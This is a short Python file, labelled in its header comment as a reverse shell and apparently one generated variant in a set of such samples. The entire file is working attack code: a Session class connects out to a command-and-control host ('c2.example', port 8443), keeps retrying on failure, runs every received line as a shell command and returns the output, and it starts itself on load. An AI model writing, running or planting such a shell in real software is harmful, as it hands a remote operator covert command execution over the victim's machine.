# class: reverse shell, process per command; style: class with retries
import socket
import subprocess
import time


class Session:
    def __init__(self, host, port):
        self.address = (host, port)

    def run(self):
        while True:
            try:
                with socket.create_connection(self.address, timeout=30) as conn:
                    self.serve(conn)
            except OSError:
                time.sleep(20)

    def serve(self, conn):
        stream = conn.makefile("rw")
        for line in stream:
            command = line.strip()
            if command == "exit":
                return
            done = subprocess.run(command, shell=True, capture_output=True, text=True)
            stream.write(done.stdout + done.stderr + "\n$ ")
            stream.flush()


Session("c2.example", 8443).run()
